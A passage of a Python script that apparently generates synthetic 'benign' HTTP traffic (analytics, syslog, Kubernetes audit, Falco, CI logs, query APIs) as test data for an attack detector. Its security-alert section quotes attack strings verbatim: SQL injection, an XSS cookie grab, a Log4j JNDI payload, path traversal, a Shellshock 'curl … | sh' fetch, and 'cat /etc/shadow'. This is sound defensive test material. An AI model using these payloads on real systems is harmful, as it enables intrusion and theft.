        search = pick(["", "?q=wasserdichte+jacke&sort=relevance", "?utm_source=newsletter&utm_medium=email&utm_campaign=dec_2026&utm_content=hero+button",
                       "?ref=producthunt", "?q=%22usb-c%22+OR+thunderbolt"])
        ctx = {"page": {"path": page_path, "referrer": pick(["https://www.google.com/", "https://t.co/abc123", ""]),
                        "search": search, "title": pick(["Search results", "Pricing – Example", "Jacke Storm | ACME"]),
                        "url": site + page_path + search},
               "userAgent": pick(BROWSER_UAS), "locale": pick(["de-DE", "en-US", "ja-JP", "es-ES"]),
               "library": {"name": "analytics.js", "version": "next-1.76.0"},
               "campaign": {"source": "newsletter", "medium": "email", "name": "dec_2026"} if "utm_" in search else {}}
        name, email = person()
        if k == 0:
            body = {"type": pick(["track", "page", "identify"]), "event": pick(["Product Searched", "Order Completed", "Signed Up"]),
                    "properties": {"query": pick(["wasserdichte jacke", "usb-c hub", "O'Neill wetsuit", "50% off"]),
                                   "revenue": round(R.uniform(0, 300), 2), "products": [{"product_id": "8812", "sku": "SKU-11-BLK", "name": "Jacke \"Storm\""}]},
                    "traits": {"name": name, "email": email, "plan": pick(["free", "pro"])},
                    "anonymousId": hexid(8) + "-" + hexid(4) + "-" + hexid(4) + "-" + hexid(4) + "-" + hexid(12),
                    "messageId": "ajs-next-" + hexid(32), "timestamp": iso(), "sentAt": iso(), "context": ctx, "writeKey": hexid(32)}
            h = [["Host", pick(["api.segment.io", "events.eu1.segmentapis.com"])], ["User-Agent", ctx["userAgent"]],
                 ["Content-Type", "text/plain"], ["Origin", site], ["Referer", site + page_path]]
            benign("segment_track", "POST", "/v1/" + body["type"][0], h, J(body))
        elif k == 1:
            batch = {"batch": [{"type": "track", "event": pick(["checkout_step_viewed", "coupon_applied", "file_downloaded"]),
                                "properties": {"step": R.randint(1, 4), "coupon": "WINTER26", "file": "C:\\Users\\Public\\Downloads\\invoice-2026-11.pdf"},
                                "userId": str(R.randint(1, 99999)), "context": ctx, "originalTimestamp": iso(), "messageId": hexid(32)}],
                     "sentAt": iso()}
            h = [["Host", "hosted.rudderlabs.com"], ["User-Agent", pick(["RudderLabs JavaScript SDK/3.11.1", "rudder-sdk-node/2.0.9", "okhttp/4.12.0"])],
                 ["Content-Type", "application/json"], ["Authorization", "Basic " + b64(hexid(24) + ":")]]
            benign("rudder_batch", "POST", "/v1/batch", h, J(batch))
        else:
            if i % 2 == 0:
                params = [("e", "pv"), ("url", site + page_path + search), ("page", ctx["page"]["title"]), ("refr", ctx["page"]["referrer"]),
                          ("tv", "js-3.24.2"), ("tna", "sp1"), ("aid", "web-shop"), ("p", "web"), ("tz", pick(["Europe/Berlin", "Asia/Tokyo", "America/Sao_Paulo"])),
                          ("lang", "de-DE"), ("cs", "UTF-8"), ("res", "1920x1080"), ("cd", "24"), ("cookie", "1"),
                          ("eid", hexid(8) + "-" + hexid(4) + "-" + hexid(4) + "-" + hexid(4) + "-" + hexid(12)), ("dtm", str(ts_ms())),
                          ("vp", "1903x961"), ("ds", "1888x5240"), ("vid", str(R.randint(1, 40))), ("sid", hexid(8)), ("duid", hexid(8)), ("stm", str(ts_ms()))]
                h = [["Host", "collector.snowplow.example.net"], ["User-Agent", ctx["userAgent"]], ["Referer", site + page_path], ["Accept", "image/avif,image/webp,*/*"]]
                benign("snowplow_get", "GET", "/i?" + qs(params), h)
            else:
                ue = {"schema": "iglu:com.snowplowanalytics.snowplow/unstruct_event/jsonschema/1-0-0",
                      "data": {"schema": "iglu:com.snowplowanalytics.snowplow/site_search/jsonschema/1-0-0",
                               "data": {"terms": pick([["rain", "jacket"], ["usb-c", "hub"], ["kaffee", "bohnen"]]), "filters": {"category": "outdoor", "in_stock": True},
                                        "totalResults": R.randint(0, 300), "pageResults": 24}}}
                body = {"schema": "iglu:com.snowplowanalytics.snowplow/payload_data/jsonschema/1-0-4",
                        "data": [{"e": "ue", "ue_px": base64.urlsafe_b64encode(J(ue).encode()).decode().rstrip("="), "tv": "js-3.24.2",
                                  "url": site + "/search?q=rain+jacket", "aid": "web-shop", "p": "web", "dtm": str(ts_ms()), "stm": str(ts_ms())}]}
                h = [["Host", "collector.snowplow.example.net"], ["User-Agent", ctx["userAgent"]], ["Content-Type", "application/json; charset=UTF-8"],
                     ["Origin", site]]
                benign("snowplow_post", "POST", "/com.snowplowanalytics.snowplow/tp2", h, J(body))


# ---------------------------------------------------------------------------
# benign: audit and security log shipping, CI logs
# ---------------------------------------------------------------------------

SYSLOG_MSGS = [
    ("sshd", "Accepted publickey for deploy from 10.0.4.21 port 52144 ssh2: ED25519 SHA256:Xk2mZ9Q1LhT3"),
    ("sshd", "Failed password for invalid user admin from 203.0.113.77 port 40022 ssh2"),
    ("sudo", "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx.service"),
    ("CRON", "(root) CMD (/usr/local/bin/backup.sh --target s3://acme-backups/db >> /var/log/backup.log 2>&1)"),
    ("kernel", "[UFW BLOCK] IN=eth0 OUT= MAC=02:42:ac:11:00:02 SRC=198.51.100.7 DST=10.0.1.5 LEN=60 TOS=0x00 PROTO=TCP SPT=51514 DPT=23 SYN"),
    ("systemd", "Started Daily apt upgrade and clean activities."),
    ("postfix/smtp", "3F2A81C0D2: to=<ops@example.com>, relay=mail.example.com[192.0.2.25]:25, delay=0.42, status=sent (250 2.0.0 Ok: queued)"),
    ("dockerd", "level=info msg=\"ignoring event\" container=4b1e0c2f module=libcontainerd namespace=moby topic=/tasks/delete"),
    ("nginx", "2026/12/05 10:14:07 [error] 1287#1287: *88213 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 203.0.113.18, server: shop.example.com, request: \"GET /api/v2/orders?page=2 HTTP/1.1\", upstream: \"http://10.0.2.14:8080/api/v2/orders?page=2\""),
    ("Microsoft-Windows-Security-Auditing", "An account was successfully logged on. Subject: Security ID: S-1-5-18 Account Name: WEB-PROD-03$ Logon Type: 3 Workstation Name: JUMPHOST01 Source Network Address: 10.0.0.15"),
]


def gen_syslog_http(n):
    for i in range(n):
        lines = []
        for _ in range(R.randint(1, 4)):
            app, msg = pick(SYSLOG_MSGS)
            pri = pick([13, 30, 34, 38, 86, 132])
            host = pick(["bastion-1", "web-02", "db-primary", "WEB-PROD-03", "edge-fra-3"])
            if R.random() < 0.5:
                lines.append('<%d>1 %s %s %s %d - [meta@32473 env="prod" dc="fra1"] %s' % (pri, iso(), host, app, R.randint(100, 40000), msg))
            else:
                lines.append('<%d>Dec  5 %02d:%02d:%02d %s %s[%d]: %s' % (pri, R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), host, app, R.randint(100, 40000), msg))
        if i % 2 == 0:
            body = "\n".join(lines) + "\n"
            ct = "text/plain"
        else:
            body = "\n".join(J({"message": l, "host": "relay-1", "received_at": iso()}) for l in lines)
            ct = "application/json"
        h = [["Host", pick(["syslog-http.logging.svc:8088", "logs.example.net"])], ["User-Agent", pick(["rsyslog-omhttp/8.2410.0", "syslog-ng/4.8.0", "NXLog/6.4.9"])],
             ["Content-Type", ct]]
        benign("syslog_http", "POST", pick(["/syslog", "/api/v1/ingest/syslog", "/"]), h, body)


def gen_k8s_audit(n):
    for i in range(n):
        items = []
        for _ in range(R.randint(1, 3)):
            ns = pick(NAMESPACES)
            case = pick(["list", "get", "patch", "exec", "create_secret", "watch", "delete"])
            ua = pick(["kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
                       "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:replicaset-controller",
                       "Go-http-client/2.0", "helm/v3.16.3"])
            user = pick(["system:serviceaccount:monitoring:prometheus", "jane.doe@example.com", "system:serviceaccount:argocd:argocd-application-controller",
                         "oidc:ci-deployer", "system:kube-controller-manager"])
            if case == "list":
                uri, verb, obj = "/api/v1/namespaces/%s/pods?limit=500" % ns, "list", {"resource": "pods", "namespace": ns, "apiVersion": "v1"}
            elif case == "get":
                uri, verb, obj = "/apis/apps/v1/namespaces/%s/deployments/%s" % (ns, pick(SERVICES)), "get", {"resource": "deployments", "namespace": ns, "apiGroup": "apps", "apiVersion": "v1"}
            elif case == "patch":
                svc = pick(SERVICES)
                uri, verb, obj = "/apis/apps/v1/namespaces/%s/deployments/%s?fieldManager=kubectl-rollout" % (ns, svc), "patch", {"resource": "deployments", "namespace": ns, "name": svc, "apiGroup": "apps"}
            elif case == "exec":
                pod = "%s-%s-%s" % (pick(SERVICES), hexid(10), hexid(5))
                cmd = pick([["sh", "-c", "ls -la /app/config"], ["psql", "-c", "select count(*) from orders"], ["cat", "/var/log/app/app.log"], ["bash"]])
                uri = "/api/v1/namespaces/%s/pods/%s/exec?" % (ns, pod) + "&".join("command=" + qp(c) for c in cmd) + "&container=app&stdin=true&stdout=true&tty=true"
                verb, obj = "create", {"resource": "pods", "subresource": "exec", "namespace": ns, "name": pod}
            elif case == "create_secret":
                uri, verb, obj = "/api/v1/namespaces/%s/secrets?fieldManager=helm" % ns, "create", {"resource": "secrets", "namespace": ns, "name": "sh.helm.release.v1.shop.v42"}
            elif case == "watch":
                uri, verb, obj = "/api/v1/namespaces/%s/configmaps?allowWatchBookmarks=true&resourceVersion=88213&timeout=7m21s&watch=true" % ns, "watch", {"resource": "configmaps", "namespace": ns}
            else:
                uri, verb, obj = "/api/v1/namespaces/%s/pods/%s-%s" % (ns, pick(SERVICES), hexid(5)), "delete", {"resource": "pods", "namespace": ns}
            items.append({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": pick(["Metadata", "Request"]), "auditID": "%s-%s-%s-%s-%s" % (hexid(8), hexid(4), hexid(4), hexid(4), hexid(12)),
                          "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
                          "user": {"username": user, "groups": ["system:authenticated"]}, "sourceIPs": ["10.42.%d.%d" % (R.randint(0, 9), R.randint(2, 250))],
                          "userAgent": ua, "objectRef": obj, "responseStatus": {"metadata": {}, "code": pick([200, 201, 101, 403, 404])},
                          "requestReceivedTimestamp": iso(), "stageTimestamp": iso(),
                          "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"ops-admin\" of ClusterRole \"cluster-admin\" to Group \"ops\""}})
        h = [["Host", pick(["falco-k8saudit.security.svc:9765", "audit-sink.security.svc:8443"])],
             ["User-Agent", "kube-apiserver/v1.31.2 (linux/amd64) kubernetes/5864a46"], ["Content-Type", "application/json"]]
        benign("k8s_audit", "POST", pick(["/k8s-audit", "/audit/webhook"]), h, J({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": items}))


FALCO_EVENTS = [
    ("Notice", "Terminal shell in container", "A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=bash terminal=34816 exe_flags=EXE_WRITABLE container_id=%s container_name=app)"),
    ("Warning", "Read sensitive file untrusted", "Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=containerd-shim ggparent=<NA> evt_type=openat user=root user_uid=0 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34816 container_id=%s container_name=debug)"),
    ("Notice", "Contact K8S API Server From Container", "Unexpected connection to K8s API Server from container (connection=10.42.0.12:48212->10.43.0.1:443 lport=443 rport=48212 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root process=kubectl parent=bash command=kubectl get pods -n prod container_id=%s)"),
    ("Warning", "Drop and execute new binary in container", "Executing binary not part of base image (proc_exe=/tmp/node_exporter proc_sname=sh gparent=containerd-shim proc_exe_ino_ctime=1796461200 evt_type=execve user=nobody process=node_exporter command=/tmp/node_exporter --web.listen-address=:9100 container_id=%s)"),
    ("Informational", "Launch Package Management Process in Container", "Package management process launched in container (evt_type=execve user=root process=apt-get command=apt-get install -y curl ca-certificates container_id=%s image=debian:bookworm-slim)"),
    ("Notice", "Redirect STDOUT/STDIN to Network Connection in Container", "Redirect stdout/stdin to network connection (gparent=java ggparent=containerd-shim fd.sip=10.42.3.9 connection=10.42.1.7:43122->10.42.3.9:5432 lport=43122 rport=5432 fd_type=ipv4 evt_type=dup2 user=app process=psql command=psql -h 10.42.3.9 -U report -c \\copy orders to stdout csv container_id=%s)"),
    ("Warning", "Clear Log Activities", "Log files were tampered (file=/var/log/nginx/access.log evt_type=openat user=root process=truncate command=truncate -s 0 /var/log/nginx/access.log container_id=%s)"),
]


def gen_falco_osquery(n):
    for i in range(n):
        if i % 2 == 0:
            pri, rule, out = pick(FALCO_EVENTS)
            cid = hexid(12)
            output = "%s: %s %s" % (iso(), pri, out % cid)
            body = {"output": output, "priority": pri, "rule": rule, "time": iso(), "source": "syscall", "hostname": pick(K8S_NODES),
                    "output_fields": {"container.id": cid, "evt.type": "execve", "k8s.ns.name": pick(NAMESPACES), "k8s.pod.name": "%s-%s" % (pick(SERVICES), hexid(5)),
                                      "proc.cmdline": out.split("command=")[1].split(" container_id")[0].split(" terminal=")[0] if "command=" in out else "bash",
                                      "user.name": "root"},
                    "tags": ["container", "mitre_execution", "T1059"]}
            h = [["Host", pick(["falcosidekick.security.svc:2801", "siem-ingest.example.net"])], ["User-Agent", pick(["Falcosidekick", "falco/0.39.2"])],
                 ["Content-Type", "application/json"]]
            benign("falco_event", "POST", pick(["/", "/api/v1/falco", "/ingest/falco"]), h, J(body))
        else:
            rows = []
            for _ in range(R.randint(1, 4)):
                cmd = pick(CMDLINES)
                rows.append({"name": pick(["pack/incident-response/process_events", "pack_processes_listening", "scheduled_query_crontab"]),
                             "hostIdentifier": pick(["web-02", "DESKTOP-8F3K2LQ", "mbp-jdoe.local"]), "calendarTime": "Sat Dec  5 10:%02d:%02d 2026 UTC" % (R.randint(0, 59), R.randint(0, 59)),
                             "unixTime": ts_s(), "epoch": 0, "counter": R.randint(0, 90), "numerics": False,
                             "columns": {"cmdline": cmd, "path": cmd.split(" ")[0].strip('"'), "pid": str(R.randint(100, 60000)), "uid": str(pick([0, 33, 1000])),
                                         "cwd": pick(["/", "/app", "C:\\Windows\\system32", "/home/deploy"])},
                             "action": "added"})
            body = {"node_key": hexid(32), "log_type": "result", "data": rows}
            h = [["Host", pick(["fleet.example.net", "osquery-tls.security.svc:8080"])], ["User-Agent", "osquery/5.14.1"],
                 ["Content-Type", "application/json"], ["Accept", "application/json"]]
            benign("osquery_log", "POST", "/api/v1/osquery/log", h, J(body))


def gen_security_alert_forwarding(n):
    """Hard cases: security tools forwarding their alerts, which quote attacks verbatim."""
    cases = [
        ("suricata_eve", lambda: {"timestamp": iso(), "flow_id": R.randint(10**14, 10**15), "in_iface": "eth0", "event_type": "alert",
                                  "src_ip": "203.0.113.77", "src_port": R.randint(30000, 60000), "dest_ip": "10.0.1.5", "dest_port": 80, "proto": "TCP",
                                  "alert": {"action": "allowed", "gid": 1, "signature_id": 2006445, "rev": 14,
                                            "signature": "ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM", "category": "Web Application Attack", "severity": 1},
                                  "http": {"hostname": "shop.example.com", "url": "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
                                           "http_user_agent": "sqlmap/1.8.11#stable (https://sqlmap.org)", "http_method": "GET", "protocol": "HTTP/1.1", "status": 403, "length": 162},
                                  "app_proto": "http"}),
        ("modsec_audit", lambda: {"transaction": {"time_stamp": iso(), "client_ip": "198.51.100.23", "host_ip": "10.0.1.5", "unique_id": hexid(24),
                                                  "request": {"method": "GET", "uri": "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "http_version": 1.1,
                                                              "headers": {"Host": "shop.example.com", "User-Agent": "Mozilla/5.0"}},
                                                  "response": {"http_code": 403},
                                                  "messages": [{"message": "XSS Attack Detected via libinjection", "details": {"ruleId": "941100", "file": "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
                                                                                                                            "data": "Matched Data: XSS data found within ARGS:q: <script>alert(document.cookie)</script>", "severity": "2"}}]}}),
        ("aws_waf_log", lambda: {"timestamp": ts_ms(), "formatVersion": 1, "webaclId": "arn:aws:wafv2:eu-central-1:123456789012:regional/webacl/prod/%s" % hexid(8),
                                 "terminatingRuleId": "AWS-AWSManagedRulesKnownBadInputsRuleSet", "action": "BLOCK",
                                 "terminatingRuleMatchDetails": [{"conditionType": "LOG4J", "location": "HEADER", "matchedData": ["${jndi:ldap://", "}"]}],
                                 "httpRequest": {"clientIp": "192.0.2.44", "country": "NL", "headers": [{"name": "Host", "value": "api.example.com"},
                                                                                                       {"name": "User-Agent", "value": "${jndi:ldap://192.0.2.44:1389/Exploit}"}],
                                                 "uri": "/", "args": "", "httpVersion": "HTTP/1.1", "httpMethod": "GET", "requestId": hexid(16)}}),
        ("crowdsec_alert", lambda: [{"scenario": "crowdsecurity/http-path-traversal-probing", "scenario_version": "0.4", "message": "Ip 203.0.113.91 performed 'crowdsecurity/http-path-traversal-probing' (12 events over 3s)",
                                     "events_count": 12, "start_at": iso(), "stop_at": iso(), "capacity": 5, "leakspeed": "10s", "simulated": False,
                                     "source": {"scope": "Ip", "value": "203.0.113.91", "ip": "203.0.113.91", "as_name": "EXAMPLE-AS", "cn": "DE"},
                                     "events": [{"timestamp": iso(), "meta": [{"key": "http_path", "value": "/static/../../../../etc/passwd"}, {"key": "http_status", "value": "400"}]}]}]),
        ("wazuh_alert", lambda: {"timestamp": iso(), "rule": {"level": 6, "description": "Web server 400 error code.", "id": "31101", "groups": ["web", "accesslog", "attack"]},
                                 "agent": {"id": "004", "name": "web-02"}, "location": "/var/log/nginx/access.log",
                                 "full_log": '198.51.100.7 - - [05/Dec/2026:10:14:07 +0000] "GET /cgi-bin/status HTTP/1.1" 400 150 "-" "() { :; }; /bin/bash -c \\"curl http://198.51.100.7/x.sh | sh\\""',
                                 "decoder": {"name": "web-accesslog"}}),
        ("ids_fastlog", None),
    ]
    for i in range(n):
        slug, fn = cases[i % len(cases)]
        if fn is None:
            lines = [
                '12/05/2026-10:%02d:%02d.%06d  [**] [1:2024897:3] ET EXPLOIT Possible Apache Struts OGNL Expression Injection (CVE-2017-5638) [**] [Classification: Attempted Administrator Privilege Gain] [Priority: 1] {TCP} 203.0.113.4:%d -> 10.0.1.5:8080' % (R.randint(0, 59), R.randint(0, 59), R.randint(0, 999999), R.randint(30000, 60000)),
                '12/05/2026-10:%02d:%02d.%06d  [**] [1:2011768:8] ET WEB_SERVER PHP tags in HTTP POST [**] [Classification: Web Application Attack] [Priority: 1] {TCP} 198.51.100.23:%d -> 10.0.1.5:80' % (R.randint(0, 59), R.randint(0, 59), R.randint(0, 999999), R.randint(30000, 60000)),
            ]
            h = [["Host", "siem-ingest.example.net"], ["User-Agent", "Fluent-Bit"], ["Content-Type", "text/plain"]]
            benign("ids_fastlog", "POST", "/ingest/suricata/fast", h, "\n".join(lines) + "\n")
            continue
        payload = fn()
        dest = pick([("/services/collector/event", [["Authorization", "Splunk " + hexid(32)]], lambda p: J({"event": p, "sourcetype": "_json", "index": "security"})),
                     ("/api/v2/logs", [["DD-API-KEY", hexid(32)]], lambda p: J([{"ddsource": slug, "service": "waf", "message": J(p)}])),
                     ("/security-alerts/_doc", [["Authorization", "ApiKey " + b64(hexid(20))]], lambda p: J({"@timestamp": iso(), "event": {"kind": "alert"}, "original": p}))])
        h = [["Host", "siem-ingest.example.net"], ["User-Agent", pick(["Fluent-Bit", "Vector/0.43.0 (x86_64-unknown-linux-gnu)", "Logstash/8.16.1"])],
             ["Content-Type", "application/json"]] + dest[1]
        benign(slug, "POST", dest[0], h, dest[2](payload))


CI_LOG_SNIPPETS = [
    "\u001b[0KRunning with gitlab-runner 17.6.0 (374d34fd)\u001b[0;m\n\u001b[0K  on docker-runner-7 t3_Xk2mZ, system ID: s_8f3a1c2d\u001b[0;m\n",
    "\u001b[32;1m$ npm ci --prefer-offline --no-audit\u001b[0;m\nadded 1432 packages in 38s\n\u001b[32;1m$ npm run build\u001b[0;m\n> web@3.4.1 build\n> vite build\n\u2713 812 modules transformed.\n",
    "\u001b[32;1m$ docker build --pull -t registry.example.net/shop/checkout-api:$CI_COMMIT_SHORT_SHA .\u001b[0;m\n#8 [builder 4/6] RUN go build -trimpath -ldflags=\"-s -w\" -o /out/app ./cmd/app\n#8 DONE 41.2s\n",
    "\u001b[32;1m$ pytest -q --junitxml=report.xml\u001b[0;m\n........F...\nFAILED tests/test_cart.py::test_apply_coupon - shop.models.Coupon.DoesNotExist: Coupon matching query does not exist.\n1 failed, 211 passed in 12.42s\n",
    "\u001b[32;1m$ ./gradlew test --no-daemon\u001b[0;m\n> Task :billing:test\nInvoiceServiceTest > renderFailsWithoutCustomer() FAILED\n    java.lang.NullPointerException at InvoiceServiceTest.java:41\n",
    "\u001b[32;1m$ psql \"$DATABASE_URL\" -f migrations/20261205_add_orders_idx.sql\u001b[0;m\nCREATE INDEX\n\u001b[32;1m$ echo \"SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day';\" | psql \"$DATABASE_URL\"\u001b[0;m\n count \n-------\n  8821\n",
    "\u001b[32;1m$ curl -sSfL https://github.com/aquasecurity/trivy/releases/download/v0.57.1/trivy_0.57.1_Linux-64bit.tar.gz | tar -xz -C /usr/local/bin trivy\u001b[0;m\n\u001b[32;1m$ trivy image --exit-code 1 --severity CRITICAL registry.example.net/shop/checkout-api:8f3a1c2d\u001b[0;m\nTotal: 0 (CRITICAL: 0)\n",
    "\u001b[32;1m$ kubectl -n prod set image deployment/checkout-api app=registry.example.net/shop/checkout-api:8f3a1c2d\u001b[0;m\ndeployment.apps/checkout-api image updated\n\u001b[32;1m$ kubectl -n prod rollout status deployment/checkout-api --timeout=300s\u001b[0;m\n",
    "\u001b[32;1m$ find . -name '*.log' -mtime +7 -exec rm -f {} \\;\u001b[0;m\n\u001b[32;1m$ tar czf artifacts.tgz dist/ coverage/\u001b[0;m\nUploading artifacts for successful job\u001b[0;m\n",
    "\u001b[32;1m$ composer install --no-dev --optimize-autoloader\u001b[0;m\nGenerating optimized autoload files\n\u001b[32;1m$ php artisan migrate --force\u001b[0;m\n   INFO  Running migrations.\n  2026_12_01_000000_add_locale_to_users ........ 12ms DONE\n",
]


def gen_ci_logs(n):
    for i in range(n):
        chunk = CI_LOG_SNIPPETS[i % len(CI_LOG_SNIPPETS)]
        start = R.randint(0, 40000)
        size = len(chunk.encode("utf-8"))
        h = [["Host", pick(["gitlab.example.net", "git.acme-corp.de"])], ["User-Agent", "gitlab-runner 17.6.0 (17-6-stable; go1.22.9; linux/amd64)"],
             ["Content-Type", "text/plain"], ["Job-Token", "glcbt-" + hexid(20)], ["Content-Range", "%d-%d" % (start, start + size - 1)]]
        benign("ci_job_trace", "PATCH", "/api/v4/jobs/%d/trace?debug_trace=false" % R.randint(10**6, 10**7), h, chunk)


def gen_junit_upload(n):
    for i in range(n):
        failures = R.randint(0, 2)
        cases = []
        for j in range(R.randint(3, 6)):
            cls = pick(["com.acme.billing.InvoiceServiceTest", "tests.test_cart", "CartSpec", "Contoso.Payroll.Tests.PayslipServiceTests"])
            if j < failures:
                _, tr = pick(TRACES)
                tr = tr.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
                cases.append('    <testcase classname="%s" name="test_%d" time="%.3f">\n      <failure message="%s" type="AssertionError">%s</failure>\n    </testcase>' % (cls, j, R.uniform(0, 3), tr.splitlines()[0][:80], tr))
            else:
                cases.append('    <testcase classname="%s" name="test_%d" time="%.3f"/>' % (cls, j, R.uniform(0, 3)))
        xml = ('<?xml version="1.0" encoding="UTF-8"?>\n<testsuites name="ci" tests="%d" failures="%d" time="12.4">\n'
               '  <testsuite name="unit" tests="%d" failures="%d" errors="0" skipped="0" timestamp="%s" hostname="runner-7">\n'
               '    <properties><property name="java.version" value="21.0.5"/><property name="os.name" value="Linux"/></properties>\n'
               '%s\n    <system-out><![CDATA[2026-12-05 10:14:07 INFO  Started InvoiceServiceTest in 1.92 seconds (process running for 3.1)\nSELECT * FROM invoices WHERE id = 1]]></system-out>\n'
               '  </testsuite>\n</testsuites>\n') % (len(cases), failures, len(cases), failures, iso()[:19], "\n".join(cases))
        h = [["Host", pick(["ci-insights.example.net", "reports.acme-corp.de"])], ["User-Agent", pick(["curl/8.5.0", "Buildkite-Agent/3.87.1", "python-requests/2.32.3"])],
             ["Content-Type", "application/xml"], ["Authorization", "Bearer " + hexid(40)]]
        benign("junit_upload", "POST", "/api/v1/test-reports?" + qs([("project", pick(SERVICES)), ("branch", "release/2026.12"), ("commit", hexid(40))]), h, xml)


# ---------------------------------------------------------------------------
# benign: query APIs (Loki, Prometheus, Tempo, Elasticsearch, ClickHouse,
# Grafana) and ordinary GETs
# ---------------------------------------------------------------------------

LOGQL = [
    '{app="checkout-api", namespace="prod"} |= "error" != "healthz"',
    '{job="nginx"} | pattern `<ip> - - [<_>] "<method> <uri> <_>" <status> <_>` | status >= 500',
    'sum by (status) (rate({job="nginx"} | json | __error__="" [5m]))',
    '{app="payments"} | json | line_format "{{.level}} {{.msg}} trace={{.trace_id}}"',
    '{namespace="shop"} |~ "(?i)timeout|connection refused" | logfmt | duration > 2s',
    'topk(10, sum by (path) (count_over_time({job="nginx"} | regexp `"GET (?P<path>[^ ?]+)` [1h])))',
    '{filename="/var/log/syslog"} |= "Failed password"',
]

PROMQL = [
    'sum by (route) (rate(http_server_request_duration_seconds_count{job="checkout-api",status=~"5.."}[5m]))',
    'histogram_quantile(0.99, sum by (le) (rate(http_server_request_duration_seconds_bucket[5m])))',
    '100 * (1 - avg by (instance) (rate(node_cpu_seconds_total{mode="idle"}[5m])))',
    'kube_deployment_status_replicas_available{namespace="prod"} / kube_deployment_spec_replicas{namespace="prod"} < 1',
    'increase(kube_pod_container_status_restarts_total{namespace=~"prod|shop"}[1h]) > 3',
    'predict_linear(node_filesystem_avail_bytes{mountpoint="/var/lib/docker"}[6h], 24*3600) < 0',
    'up{job=~".*exporter"} == 0',
]

TRACEQL = ['{ span.http.response.status_code >= 500 && resource.service.name = "checkout-api" }',
           '{ duration > 2s } | select(span.db.statement)',
           '{ span.db.system = "postgresql" && name =~ "SELECT.*" }']

CLICKHOUSE_Q = [
    "SELECT toStartOfHour(timestamp) AS h, level, count() AS n FROM logs.app WHERE service = 'checkout-api' AND timestamp >= now() - INTERVAL 1 DAY GROUP BY h, level ORDER BY h FORMAT JSON",
    "SELECT message FROM logs.app WHERE positionCaseInsensitive(message, 'timeout') > 0 ORDER BY timestamp DESC LIMIT 100 FORMAT JSONEachRow",
    "SELECT TraceId, SpanName, Duration FROM otel.otel_traces WHERE ServiceName = 'payments' AND Duration > 1000000000 ORDER BY Timestamp DESC LIMIT 50",
    "SELECT quantile(0.95)(duration_ms) FROM http_requests WHERE path LIKE '/api/v2/%' AND date = today()",
]


def grafana_headers(json_body=True):
    h = [["Host", pick(["grafana.example.org", "monitoring.acme-corp.de", "grafana.internal.example.net"])],
         ["User-Agent", pick(BROWSER_UAS)], ["Accept", "application/json, text/plain, */*"], ["Accept-Language", pick(LANGS)],
         ["X-Grafana-Org-Id", str(pick([1, 1, 2]))], ["X-Grafana-Device-Id", hexid(32)],
         ["Cookie", "grafana_session=%s; grafana_session_expiry=%d" % (hexid(32), ts_s())]]
    if json_body:
        h.append(["Content-Type", "application/json"])
    return h


def gen_query_apis(n):
    for i in range(n):
        k = i % 8
        start = ts_s() - 3600
        if k == 0:
            params = [("query", pick(LOGQL)), ("start", str(start * 10**9)), ("end", str((start + 3600) * 10**9)), ("limit", "1000"), ("direction", "backward")]
            h = [["Host", "loki-gateway.monitoring.svc"], ["User-Agent", "Grafana/11.3.1"], ["Accept", "application/json"], ["X-Scope-OrgID", "tenant-shop"]]
            benign("loki_query_range", "GET", "/loki/api/v1/query_range?" + qs(params), h)
        elif k == 1:
            params = [("query", pick(PROMQL)), ("start", str(start)), ("end", str(start + 3600)), ("step", pick(["15", "30s", "1m"]))]
            h = [["Host", pick(["prometheus.monitoring.svc:9090", "mimir.example.net"])], ["User-Agent", pick(["Grafana/11.3.1", "python-requests/2.32.3"])], ["Accept", "application/json"]]
            benign("prom_query_range", "GET", "/api/v1/query_range?" + qs(params), h)
        elif k == 2:
            params = [("q", pick(TRACEQL)), ("limit", "20"), ("start", str(start)), ("end", str(start + 3600))]
            h = [["Host", "tempo-query-frontend.monitoring.svc:3200"], ["User-Agent", "Grafana/11.3.1"], ["Accept", "application/json"]]
            benign("tempo_search", "GET", "/api/search?" + qs(params), h)
        elif k == 3:
            qstr = pick(['message:"connection refused" AND service.name:checkout-api', 'http.response.status_code:>=500 AND NOT url.path:"/healthz"',
                         'error.type:"java.lang.NullPointerException"', 'process.command_line:*pg_dump* AND host.name:db-*', 'user.name:"o\'brien" OR user.email:*@example.ie'])
            body = {"size": 100, "sort": [{"@timestamp": "desc"}], "track_total_hits": False,
                    "query": {"bool": {"filter": [{"range": {"@timestamp": {"gte": "now-15m", "lte": "now"}}},
                                                  {"query_string": {"query": qstr, "analyze_wildcard": True, "default_field": "message"}}]}},
                    "aggs": {"by_service": {"terms": {"field": "service.name", "size": 10}}}}
            h = [["Host", "es-logs.prod.example.net:9200"], ["User-Agent", pick(["Kibana/8.16.1", "elasticsearch-js/8.16.0 (linux 6.8.0-1017-aws-x64; Node.js 20.18.0)"])],
                 ["Content-Type", "application/json"], ["Accept", "application/json"], ["Authorization", "ApiKey " + b64(hexid(30))]]
            benign("es_search", "POST", "/%s/_search?ignore_unavailable=true" % pick(["logs-*", "filebeat-*", "app-logs-2026.12.*"]), h, J(body))
        elif k == 4:
            sql = pick(CLICKHOUSE_Q)
